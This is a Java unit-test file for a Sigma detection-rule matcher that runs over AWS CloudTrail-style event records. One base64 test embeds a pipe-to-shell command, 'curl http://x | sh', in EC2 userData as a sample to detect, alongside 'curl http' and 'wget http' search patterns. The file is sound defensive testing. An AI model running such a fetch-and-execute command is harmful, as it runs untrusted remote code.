package dev.trailhound.formats.sigma;

import static dev.trailhound.formats.sigma.SigmaHarness.matches;
import static dev.trailhound.formats.sigma.SigmaHarness.record;
import static dev.trailhound.formats.sigma.SigmaHarness.rule;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class SigmaMatchingTest {
    private static final String CREATE_KEY = record("alice", 0, "iam.amazonaws.com", "CreateAccessKey",
            "\"requestParameters\":{\"userName\":\"bob\"},\"responseElements\":{\"accessKey\":{\"userName\":\"bob\",\"status\":\"Active\"}},"
                    + "\"readOnly\":false,\"additionalEventData\":{\"MFAUsed\":\"No\"},\"tags\":[{\"key\":\"team\",\"value\":\"red\"},{\"key\":\"env\",\"value\":\"prod\"}]");

    @Test
    void plain_values_match_case_insensitively_and_cased_does_not() {
        assertThat(matches(rule("  sel:\n    eventName: createaccesskey\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    eventName|cased: createaccesskey\n  condition: sel"), CREATE_KEY)).isFalse();
        assertThat(matches(rule("  sel:\n    eventName|cased: CreateAccessKey\n  condition: sel"), CREATE_KEY)).isTrue();
    }

    @Test
    void fields_of_a_map_are_all_required_and_values_of_a_list_are_alternatives() {
        assertThat(matches(rule("  sel:\n    eventName: [DeleteUser, CreateAccessKey]\n    eventSource: iam.amazonaws.com\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    eventName: [DeleteUser, CreateAccessKey]\n    eventSource: s3.amazonaws.com\n  condition: sel"), CREATE_KEY)).isFalse();
    }

    @Test
    void a_list_of_maps_matches_when_any_map_does() {
        String r = rule("  sel:\n    - eventName: DeleteUser\n    - eventName: CreateAccessKey\n      requestParameters.userName: bob\n  condition: sel");
        assertThat(matches(r, CREATE_KEY)).isTrue();
        assertThat(matches(r.replace("userName: bob", "userName: carol"), CREATE_KEY)).isFalse();
    }

    @Test
    void null_means_the_field_is_missing_and_a_present_field_does_not_match_it() {
        assertThat(matches(rule("  sel:\n    errorCode: null\n    eventName: CreateAccessKey\n  condition: sel"), CREATE_KEY)).isTrue();
        String denied = CREATE_KEY.replace("\"readOnly\"", "\"errorCode\":\"AccessDenied\",\"readOnly\"");
        assertThat(matches(rule("  sel:\n    errorCode: null\n    eventName: CreateAccessKey\n  condition: sel"), denied)).isFalse();
        assertThat(matches(rule("  sel:\n    responseElements.missing: [null, x]\n  condition: sel"), CREATE_KEY)).isTrue();
        String emptyError = CREATE_KEY.replace("\"readOnly\"", "\"errorCode\":\"\",\"readOnly\"");
        assertThat(matches(rule("  sel:\n    errorCode: null\n    eventName: CreateAccessKey\n  condition: sel"), emptyError))
                .as("an empty error code is no error").isTrue();
    }

    @Test
    void wildcards_match_anywhere_and_escaped_wildcards_are_literal() {
        assertThat(matches(rule("  sel:\n    userAgent: 'aws-cli/2.*Python*'\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    eventName: 'Create?ccessKey'\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    eventName: 'Create\\*'\n  condition: sel"), CREATE_KEY)).isFalse();
        assertThat(matches(rule("  sel:\n    eventName: 'Create*'\n  condition: sel"), CREATE_KEY)).isTrue();
    }

    @Test
    void contains_startswith_endswith_and_all_modifiers() {
        assertThat(matches(rule("  sel:\n    userAgent|contains: PYTHON\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    userAgent|startswith: aws-cli\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    userAgent|endswith: '3.11.8'\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    userAgent|contains|all: [cli, python]\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    userAgent|contains|all: [cli, boto3]\n  condition: sel"), CREATE_KEY)).isFalse();
    }

    @Test
    void contains_on_an_object_searches_its_json_text() {
        assertThat(matches(rule("  sel:\n    responseElements|contains: '\"status\":\"Active\"'\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    requestParameters|contains: carol\n  condition: sel"), CREATE_KEY)).isFalse();
    }

    @Test
    void paths_fan_out_over_arrays() {
        assertThat(matches(rule("  sel:\n    tags.value: prod\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    tags.value: staging\n  condition: sel"), CREATE_KEY)).isFalse();
    }

    @Test
    void a_path_whose_member_the_record_lacks_is_missing_without_building_a_tree() {
        var event = SigmaHarness.event(CREATE_KEY);
        assertThat(matches(rule("  sel:\n    vpcEndpointId|exists: false\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    requestParameters.userName: bob\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(event.mayHaveMember("\"vpcEndpointId\"")).isFalse();
        assertThat(event.mayHaveMember("\"userName\"")).isTrue();
    }

    @Test
    void booleans_and_numbers_compare_by_their_text() {
        assertThat(matches(rule("  sel:\n    readOnly: 'false'\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    readOnly: false\n  condition: sel"), CREATE_KEY)).isTrue();
        String port = record("alice", 0, "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", "\"requestParameters\":{\"fromPort\":22}");
        assertThat(matches(rule("  sel:\n    requestParameters.fromPort: 22\n  condition: sel"), port)).isTrue();
        assertThat(matches(rule("  sel:\n    requestParameters.fromPort|lte: 22\n  condition: sel"), port)).isTrue();
        assertThat(matches(rule("  sel:\n    requestParameters.fromPort|gt: 22\n  condition: sel"), port)).isFalse();
    }

    @Test
    void regular_expressions_are_case_sensitive_unless_flagged() {
        assertThat(matches(rule("  sel:\n    userIdentity.arn|re: ':user/ALICE$'\n  condition: sel"), CREATE_KEY)).isFalse();
        assertThat(matches(rule("  sel:\n    userIdentity.arn|re|i: ':user/ALICE$'\n  condition: sel"), CREATE_KEY)).isTrue();
    }

    @Test
    void cidr_matches_addresses_in_the_network_only() {
        assertThat(matches(rule("  sel:\n    sourceIPAddress|cidr: 203.0.113.0/24\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    sourceIPAddress|cidr: [198.51.100.0/24, '2001:db8::/32']\n  condition: sel"), CREATE_KEY)).isFalse();
    }

    @Test
    void exists_tests_presence() {
        assertThat(matches(rule("  sel:\n    additionalEventData.MFAUsed|exists: true\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    errorCode|exists: true\n  condition: sel"), CREATE_KEY)).isFalse();
    }

    @Test
    void fieldref_compares_two_fields_of_the_same_event() {
        assertThat(matches(rule("  sel:\n    responseElements.accessKey.userName|fieldref: requestParameters.userName\n  condition: sel"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  sel:\n    userIdentity.userName|fieldref: requestParameters.userName\n  condition: sel"), CREATE_KEY)).isFalse();
        assertThat(matches(rule("  sel:\n    userIdentity.arn|fieldref|endswith: userIdentity.userName\n  condition: sel"), CREATE_KEY)).isTrue();
    }

    @Test
    void base64_and_base64offset_find_encoded_text() {
        String data = record("alice", 0, "ec2.amazonaws.com", "ModifyInstanceAttribute",
                "\"requestParameters\":{\"userData\":\"" + java.util.Base64.getEncoder().encodeToString("#!/bin/bash\ncurl http://x | sh".getBytes()) + "\"}");
        assertThat(matches(rule("  sel:\n    requestParameters.userData|base64offset|contains: 'curl http'\n  condition: sel"), data)).isTrue();
        assertThat(matches(rule("  sel:\n    requestParameters.userData|base64offset|contains: 'wget http'\n  condition: sel"), data)).isFalse();
        // base64 encodes the value whole, padding included: only a prefix of 3n bytes is found at the start
        assertThat(matches(rule("  sel:\n    requestParameters.userData|base64|startswith: '#!/bin/bash'\n  condition: sel"), data)).isFalse();
        assertThat(matches(rule("  sel:\n    requestParameters.userData|base64|startswith: '#!/bin/ba'\n  condition: sel"), data)).isTrue();
    }

    @Test
    void expand_substitutes_configured_placeholders() {
        String r = rule("  sel:\n    sourceIPAddress|expand: '%office_ips%'\n  condition: sel");
        var c = SigmaHarness.compile(r, Map.of("office_ips", List.of("192.0.2.1", "203.0.113.7")));
        assertThat(c.ok()).isTrue();
        var engine = new dev.trailhound.core.rules.RuleEngine(c.ruleSet(), dev.trailhound.core.detect.AutomationRecognizer.defaults());
        assertThat(SigmaHarness.run(engine, SigmaHarness.event(CREATE_KEY))).hasSize(1);
    }

    @Test
    void external_accounts_are_those_outside_the_organisation() {
        String share = record("alice", 0, "ec2.amazonaws.com", "ModifySnapshotAttribute",
                "\"requestParameters\":{\"createVolumePermission\":{\"add\":{\"items\":[{\"userId\":\"444455556666\"},{\"userId\":\"999988887777\"}]}}}");
        String own = share.replace("999988887777", "111122223333");
        String r = rule("  sel:\n    requestParameters.createVolumePermission.add.items.userId|expand: '%external_accounts%'\n  condition: sel");
        assertThat(matches(r, share)).isTrue();
        assertThat(matches(r, own)).isFalse();
        String policy = rule("  sel:\n    requestParameters|contains|expand: '%external_accounts%'\n  condition: sel");
        assertThat(matches(policy, share)).isTrue();
        assertThat(matches(policy, own)).isFalse();
    }

    @Test
    void matching_prepared_ahead_gives_the_same_detections_and_leaves_organisation_rules_to_event_order() {
        java.util.Set<String> own = new java.util.HashSet<>(java.util.Set.of("111122223333"));
        String yaml = rule("  sel:\n    eventName: ModifySnapshotAttribute\n  ext:\n    requestParameters.createVolumePermission.add.items.userId|expand: '%external_accounts%'\n  condition: sel and ext")
                + "\n---\n" + rule("  sel:\n    eventName: ModifySnapshotAttribute\n  condition: sel").replace("00000000-0000-4000-8000-000000000001", "00000000-0000-4000-8000-000000000002");
        SigmaFile file = new SigmaParser().parse("t.yml", yaml);
        var compiled = new dev.trailhound.core.rules.RuleCompiler(SigmaHarness.CATALOG,
                new dev.trailhound.core.rules.RuleCompileOptions(Map.of(), own::contains, java.util.Set.of())).compile(file.rules(), file.correlations());
        assertThat(file.problems()).isEmpty();
        assertThat(compiled.problems()).isEmpty();
        var engine = new dev.trailhound.core.rules.RuleEngine(compiled.ruleSet(), dev.trailhound.core.detect.AutomationRecognizer.defaults());
        String share = record("alice", 0, "ec2.amazonaws.com", "ModifySnapshotAttribute",
                "\"requestParameters\":{\"createVolumePermission\":{\"add\":{\"items\":[{\"userId\":\"444455556666\"}]}}}");
        var prepared = SigmaHarness.event(share);
        engine.prepare(prepared);
        own.add("444455556666");   // the account is seen as a recipient after the event was read, before it is processed
        assertThat(engine.detect(engine.newState(), prepared)).extracting(d -> d.ruleId())
                .containsExactly("00000000-0000-4000-8000-000000000002");
        own.remove("444455556666");
        var fresh = SigmaHarness.event(share);
        engine.prepare(fresh);
        assertThat(engine.detect(engine.newState(), fresh)).extracting(d -> d.ruleId())
                .containsExactly("00000000-0000-4000-8000-000000000001", "00000000-0000-4000-8000-000000000002");
        assertThat(engine.detect(engine.newState(), SigmaHarness.event(share))).extracting(d -> d.ruleId())
                .as("without preparation").containsExactly("00000000-0000-4000-8000-000000000001", "00000000-0000-4000-8000-000000000002");
    }

    @Test
    void keywords_search_the_whole_record() {
        assertThat(matches(rule("  words:\n    - 'team'\n    - nothing-like-this\n  condition: words"), CREATE_KEY)).isTrue();
        assertThat(matches(rule("  words:\n    - nothing-like-this\n  condition: words"), CREATE_KEY)).isFalse();
    }

    @Test
    void conditions_combine_searches_with_precedence_and_quantifiers() {
        String searches = "  sel_name:\n    eventName: CreateAccessKey\n  sel_other:\n    eventName: DeleteUser\n"
                + "  filter_self:\n    requestParameters.userName: alice\n  filter_bot:\n    userIdentity.userName: ci-bot\n";
        assertThat(matches(rule(searches + "  condition: sel_name and not 1 of filter_*"), CREATE_KEY)).isTrue();
        assertThat(matches(rule(searches + "  condition: sel_other or sel_name and filter_self"), CREATE_KEY)).isFalse();
        assertThat(matches(rule(searches + "  condition: (sel_other or sel_name) and not filter_self"), CREATE_KEY)).isTrue();
        assertThat(matches(rule(searches + "  condition: 1 of sel_*"), CREATE_KEY)).isTrue();
        assertThat(matches(rule(searches + "  condition: all of sel_*"), CREATE_KEY)).isFalse();
        assertThat(matches(rule(searches + "  condition: 1 of them"), CREATE_KEY)).isTrue();
        assertThat(matches(rule(searches + "  condition: not all of them"), CREATE_KEY)).isTrue();
    }

    @Test
    void a_rule_is_only_routed_the_events_its_event_names_allow() {
        var compiled = SigmaHarness.compile(rule("  sel:\n    eventName: [CreateAccessKey, DeleteUser]\n  other:\n    errorCode: x\n  condition: sel and not other"));
        assertThat(compiled.ruleSet().candidates("CreateAccessKey")).hasSize(1);
        assertThat(compiled.ruleSet().candidates("createaccesskey")).hasSize(1);
        assertThat(compiled.ruleSet().candidates("ListUsers")).isEmpty();
        var unrouted = SigmaHarness.compile(rule("  sel:\n    eventName|startswith: Create\n  condition: sel"));
        assertThat(unrouted.ruleSet().candidates("ListUsers")).hasSize(1);
        assertThat(unrouted.ruleSet().unindexedRules()).isEqualTo(1);
    }

    @Test
    void a_detection_carries_the_rules_attack_mapping_and_an_explanation() {
        var detections = SigmaHarness.run(SigmaHarness.engine(rule("  sel:\n    eventName: CreateAccessKey\n  condition: sel")),
                SigmaHarness.event(CREATE_KEY));
        assertThat(detections).singleElement().satisfies(d -> {
            assertThat(d.ruleId()).isEqualTo("00000000-0000-4000-8000-000000000001");
            assertThat(d.tactics()).extracting(t -> t.id()).containsExactly("TA0003");
            assertThat(d.techniques()).extracting(t -> t.id()).containsExactly("T1098");
            assertThat(d.explanation()).isEqualTo("sel: eventName=CreateAccessKey");
            assertThat(d.eventIds()).containsExactly("alice-CreateAccessKey-0");
        });
    }

    @Test
    void automation_work_raises_nothing_unless_the_rule_includes_automation() {
        String terraform = CREATE_KEY.replace("aws-cli/2.15.30 Python/3.11.8", "APN/1.0 HashiCorp/1.0 Terraform/1.9.5");
        String service = CREATE_KEY.replace("\"userName\":\"alice\"}", "\"userName\":\"alice\",\"invokedBy\":\"cloudformation.amazonaws.com\"}");
        String r = rule("  sel:\n    eventName: CreateAccessKey\n  condition: sel");
        assertThat(matches(r, terraform)).isFalse();
        assertThat(matches(r, service)).isFalse();
        assertThat(matches(r.replace("level: high", "level: high\nautomation: include"), terraform)).isTrue();
        String internal = CREATE_KEY.replace("\"203.0.113.7\"", "\"AWS Internal\"");
        assertThat(matches(r, internal)).as("a service calling from AWS Internal").isFalse();
        assertThat(matches(r, internal.replace("\"eventType\"", "\"sessionCredentialFromConsole\":\"true\",\"eventType\"")))
                .as("the console calling from AWS Internal for its user").isTrue();
    }

    @Test
    void informational_rules_raise_nothing_on_their_own() {
        assertThat(matches(rule("  sel:\n    eventName: CreateAccessKey\n  condition: sel").replace("level: high", "level: informational"), CREATE_KEY)).isFalse();
    }
}
